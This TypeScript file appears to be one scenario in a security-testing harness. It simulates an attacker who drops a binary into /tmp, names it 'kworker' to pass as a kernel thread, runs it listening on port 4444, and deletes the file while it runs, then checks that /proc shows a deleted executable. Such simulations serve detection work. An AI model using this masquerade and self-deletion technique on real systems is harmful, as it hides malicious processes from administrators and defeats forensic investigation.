import { readlinkSync } from "node:fs";
import type { Attack } from "../attack.ts";
import { until } from "../site.ts";

export const attack: Attack = {
  async act(site) {
    await site.copyIn(site.images.dropper, "/tmp/fetched");
    const script =
      'cp /tmp/fetched /tmp/kworker; /tmp/kworker -l -p 4444 & while [ "$(readlink /proc/$!/exe)" != /tmp/kworker ]; do :; done; rm /tmp/kworker';
    await site.exec(["/usr/bin/sh", "-c", `${script}; echo "{\\"pid\\": $!}" >/run/web/done.said; wait`]);
    const pid = site.hostPid((await site.said("done")).pid);
    await until("the deletion", () => readlinkSync(`/proc/${pid}/exe`) === "/tmp/kworker (deleted)");
    return pid;
  },
};
